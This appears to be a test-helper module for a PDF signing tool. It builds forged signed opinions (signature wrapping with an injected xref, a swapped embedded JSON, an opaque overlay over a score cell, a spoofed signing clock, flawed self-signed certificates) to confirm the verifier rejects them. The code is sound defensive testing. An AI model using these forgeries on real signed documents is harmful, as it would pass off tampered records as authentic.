"""Attacks on signed opinions, built as an attacker would with a few lines of Python.

Each function takes a genuine signed PDF (or makes a bad identity) and returns the forged
bytes; the attack suite checks that ``slq-desk verify`` and ``panel import`` refuse each one
with its own reason. Nothing here is used by the application.
"""

from __future__ import annotations

import io
import re
import zlib
from contextlib import contextmanager
from datetime import UTC, datetime, timedelta
from typing import Any
from unittest import mock

from cryptography import x509
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import rsa
from cryptography.x509.oid import ExtendedKeyUsageOID, NameOID

from slq_desk.opinion.identity import LoadedIdentity, describe


def _ser(obj: Any) -> bytes:
    buf = io.BytesIO()
    obj.write_to_stream(buf, None)
    return buf.getvalue()


def _raw_copy(d: Any) -> Any:
    from pyhanko.pdf_utils import generic

    return generic.DictionaryObject({k: _ind(d.raw_get(k)) for k in d.keys()})


def _ind(v: Any) -> Any:
    """References as writable indirect objects (raw access may hand out bare References)."""
    from pyhanko.pdf_utils import generic

    if isinstance(v, generic.Reference):
        return generic.IndirectObject(v.idnum, v.generation, v.pdf)
    return v


def _literal(data: bytes) -> bytes:
    out = data.replace(b"\\", b"\\\\").replace(b"(", b"\\(").replace(b")", b"\\)")
    return b"(" + out.replace(b"\r", b"\\r") + b")"


def _find_total(pdf: bytes) -> tuple[int, tuple[float, float, float, float]]:
    """Page and rectangle (PDF points, origin bottom-left) of the 合计 row's score cell."""
    import pymupdf

    with pymupdf.open(stream=pdf, filetype="pdf") as doc:
        for page in doc:
            hits = page.search_for("合计")
            if hits:
                r = hits[-1]
                h = page.rect.height
                # the score column is right of the label, about 45 points wide
                return page.number, (r.x1 + 60, h - r.y1 - 3, r.x1 + 130, h - r.y0 + 3)
    return 0, (100, 100, 200, 130)


def wrap_signature(pdf: bytes, new_json: bytes, *, hex_contents: bool = False,
                   overlay_text: str = "99") -> bytes:
    """Signature wrapping: keep the signed bytes, move the second signed range to the end and
    put a new signature dictionary (the old CMS, as a NUL-padded literal string or as hex), a
    new opinion.json, a page overlay and an xref into the gap. The digest still matches, and
    with the literal string the sizes add up so a size-only coverage check says ENTIRE_FILE."""
    from pyhanko.pdf_utils import generic
    from pyhanko.pdf_utils.reader import PdfFileReader

    r = PdfFileReader(io.BytesIO(pdf), strict=False)
    sig = r.embedded_signatures[0]
    _, a, b, _c = sig.byte_range
    prefix, suffix = pdf[:a], pdf[b:]
    padded = bytes.fromhex(pdf[a + 1:b - 1].decode("ascii"))
    startxref = int(re.findall(rb"startxref\s+(\d+)", pdf)[-1])
    s = startxref - b
    sig_ref = sig.sig_object.container_ref
    last = r.xrefs.total_revisions - 1
    size = int(r.trailer["/Size"])

    # New objects: the signature dictionary, the page with an overlay, the overlay stream,
    # the embedded file with the new JSON.
    page_no, (x0, y0, x1, y1) = _find_total(pdf)
    page_ref = r.root["/Pages"]["/Kids"].raw_get(page_no)
    page = page_ref.get_object()
    overlay_id = size
    contents = page.raw_get("/Contents")
    old = contents.get_object()
    new_contents = generic.ArrayObject(
        [*(_ind(old.raw_get(i)) for i in range(len(old)))] if isinstance(old, generic.ArrayObject)
        else [_ind(contents)])
    new_contents.append(generic.IndirectObject(overlay_id, 0, r))
    res = _raw_copy(page["/Resources"])
    fonts = _raw_copy(res["/Font"]) if "/Font" in res else generic.DictionaryObject()
    fonts[generic.NameObject("/FX")] = generic.DictionaryObject({
        generic.NameObject("/Type"): generic.NameObject("/Font"),
        generic.NameObject("/Subtype"): generic.NameObject("/Type1"),
        generic.NameObject("/BaseFont"): generic.NameObject("/Helvetica")})
    res[generic.NameObject("/Font")] = fonts
    new_page = _raw_copy(page)
    new_page[generic.NameObject("/Contents")] = new_contents
    new_page[generic.NameObject("/Resources")] = res
    ops = (f"q 1 1 1 rg {x0:.1f} {y0:.1f} {x1 - x0:.1f} {y1 - y0:.1f} re f 0 0 0 rg BT /FX 9 Tf "
           f"{x0 + 2:.1f} {y0 + 4:.1f} Td ({overlay_text}) Tj ET Q").encode()
    spec = r.root["/Names"]["/EmbeddedFiles"]["/Names"][1]
    ef_ref = spec["/EF"].raw_get("/F")
    packed = zlib.compress(new_json)
    ef_obj = (b"<< /Type /EmbeddedFile /Subtype /application#2Fjson /Filter /FlateDecode "
              b"/Params << /Size " + str(len(new_json)).encode() + b" >> /Length "
              + str(len(packed)).encode() + b" >>\nstream\n" + packed + b"\nendstream")

    head = b"<<"
    for key in sig.sig_object.keys():
        if key in ("/Contents", "/ByteRange"):
            continue
        head += b"\n" + key.encode() + b" " + _ser(sig.sig_object.raw_get(key))
    placeholder = b"[0000000000 0000000000 0000000000 0000000000]"
    if hex_contents:
        contents_token = b"<" + padded.hex().encode() + b">"
        k = 0
    else:
        k = (s + 2000) // 2  # extra NULs: the gap grows by 2k, enough to hold an xref at X
        contents_token = _literal(padded + b"\x00" * k)
    sig_obj = head + b"\n/Contents " + contents_token + b"\n/ByteRange " + placeholder + b"\n>>"

    objects = [(sig_ref.idnum, sig_obj), (page_ref.idnum, _ser(new_page)),
               (overlay_id, b"<< /Length " + str(len(ops)).encode() + b" >>\nstream\n" + ops
                + b"\nendstream"), (ef_ref.idnum, ef_obj)]
    body = b"\n"
    where: dict[int, int] = {}
    for idnum, raw in objects:
        where[idnum] = a + len(body)
        body += f"{idnum} 0 obj\n".encode() + raw + b"\nendobj\n"
    xref_at = startxref  # the trailer's startxref, now inside the gap
    if hex_contents:
        # The hex string keeps its length, so the sizes no longer add up (a size-only check
        # says UNCLEAR); the gap reaches past the old xref position to hold the new one.
        gap_len = max(xref_at - a, len(body)) + 4096
    else:
        gap_len = 2 * (len(padded) + k) + 2
    assert xref_at - a >= len(body), "gap too small for the injected objects"
    delta = gap_len - (b - a)
    offsets: dict[int, int] = {}
    for i in range(1, size):
        off = r.xrefs.get_historical_ref(generic.Reference(i, 0), last)
        if isinstance(off, int):
            offsets[i] = off if off < a else off + delta
    offsets.update(where)
    total = size + 1
    xref = f"xref\n0 {total}\n0000000000 65535 f \n".encode()
    for i in range(1, total):
        xref += (f"{offsets[i]:010d} 00000 n \n" if i in offsets else "0000000000 00000 f \n"
                 ).encode()
    trailer = generic.DictionaryObject({
        generic.NameObject("/Size"): generic.NumberObject(total),
        generic.NameObject("/Root"): r.trailer.raw_get("/Root"),
        generic.NameObject("/Info"): r.trailer.raw_get("/Info"),
        generic.NameObject("/ID"): r.trailer.raw_get("/ID")})
    xref += b"trailer\n" + _ser(trailer) + f"\nstartxref\n{xref_at}\n%%EOF\n".encode()
    gap = body + b" " * (xref_at - a - len(body)) + xref
    assert len(gap) <= gap_len, "xref does not fit in the gap"
    gap += b" " * (gap_len - len(gap))
    ranges = f"[0000000000 {a:010d} {a + gap_len:010d} {len(suffix):010d}]".encode()
    assert len(ranges) == len(placeholder)
    gap = gap.replace(placeholder, ranges, 1)
    return prefix + gap + suffix


def edit_attachment(pdf: bytes, new_json: bytes) -> bytes:
    """An incremental update replacing opinion.json's bytes (what a PDF editor's save does)."""
    from pyhanko.pdf_utils import embed
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

    w = IncrementalPdfFileWriter(io.BytesIO(pdf))
    spec = w.root["/Names"]["/EmbeddedFiles"]["/Names"][1]
    ef = embed.EmbeddedFileObject.from_file_data(w, new_json, mime_type="application/json")
    spec["/EF"]["/F"] = w.add_object(ef)
    w.update_container(spec)
    out = io.BytesIO()
    w.write(out)
    return out.getvalue()


@contextmanager
def _ignore_certification() -> Any:
    """pyHanko (rightly) refuses to sign after a DocMDP P=1 certification; an attacker's
    tool does not ask."""
    from pyhanko.sign.signers import pdf_signer

    with mock.patch.object(pdf_signer.PdfSigner, "_enforce_certification_constraints",
                           lambda self, reader: None):
        yield


def countersign(pdf: bytes, ident: LoadedIdentity, *, overlay_text: str | None = None) -> bytes:
    """A second signature; with ``overlay_text`` its visible appearance is an opaque box
    painted over the total's cell (the "99 over 80" repaint)."""
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
    from pyhanko.pdf_utils.text import TextBoxStyle
    from pyhanko.sign import fields, signers
    from pyhanko.stamp import TextStampStyle

    from slq_desk.opinion.sign import _simple_signer

    meta = signers.PdfSignatureMetadata(field_name="Second", md_algorithm="sha256",
                                        subfilter=fields.SigSeedSubFilter.PADES)
    spec = None
    style = None
    if overlay_text is not None:
        page_no, (x0, y0, x1, y1) = _find_total(pdf)
        spec = fields.SigFieldSpec("Second", on_page=page_no,
                                   box=(int(x0), int(y0), int(x1), int(y1)))
        style = TextStampStyle(stamp_text=overlay_text, border_width=0,
                               text_box_style=TextBoxStyle(font_size=9))
    out = io.BytesIO()
    with _ignore_certification():
        signers.PdfSigner(meta, signer=_simple_signer(ident), new_field_spec=spec,
                          stamp_style=style).sign_pdf(
            IncrementalPdfFileWriter(io.BytesIO(pdf)), output=out)
    return out.getvalue()


@contextmanager
def signing_clock(when: datetime) -> Any:
    """Sign as if the signer's clock said ``when`` (the /M entry is the signer's word)."""
    from pyhanko.sign.signers import pdf_signer

    class _Clock(datetime):
        @classmethod
        def now(cls, tz: Any = None) -> datetime:  # type: ignore[override]
            return when.astimezone(tz) if tz is not None else when

    with mock.patch.object(pdf_signer, "datetime", _Clock):
        yield


def make_identity(name: str, organisation: str = "", *, bits: int = 3072,
                  not_before: datetime | None = None, not_after: datetime | None = None,
                  key_usage: str = "sign", eku: x509.ObjectIdentifier | None = None
                  ) -> LoadedIdentity:
    """A self-signed identity with chosen flaws: short key, validity, KeyUsage, EKU."""
    key = rsa.generate_private_key(public_exponent=65537, key_size=bits)
    attrs = [x509.NameAttribute(NameOID.COUNTRY_NAME, "CN")]
    if organisation:
        attrs.append(x509.NameAttribute(NameOID.ORGANIZATION_NAME, organisation))
    attrs.append(x509.NameAttribute(NameOID.COMMON_NAME, name))
    subject = x509.Name(attrs)
    now = datetime.now(UTC)
    builder = (x509.CertificateBuilder().subject_name(subject).issuer_name(subject)
               .public_key(key.public_key()).serial_number(x509.random_serial_number())
               .not_valid_before(not_before or now - timedelta(minutes=5))
               .not_valid_after(not_after or now + timedelta(days=30)))
    sign_ok = key_usage == "sign"
    builder = builder.add_extension(x509.KeyUsage(
        digital_signature=sign_ok, content_commitment=sign_ok, key_encipherment=not sign_ok,
        data_encipherment=False, key_agreement=False, key_cert_sign=False, crl_sign=False,
        encipher_only=False, decipher_only=False), critical=True)
    if eku is not None:
        builder = builder.add_extension(x509.ExtendedKeyUsage([eku]), critical=False)
    cert = builder.sign(key, hashes.SHA256())
    return LoadedIdentity(info=describe(cert, "<test>"), key=key, certificate=cert, chain=())


SERVER_AUTH = ExtendedKeyUsageOID.SERVER_AUTH
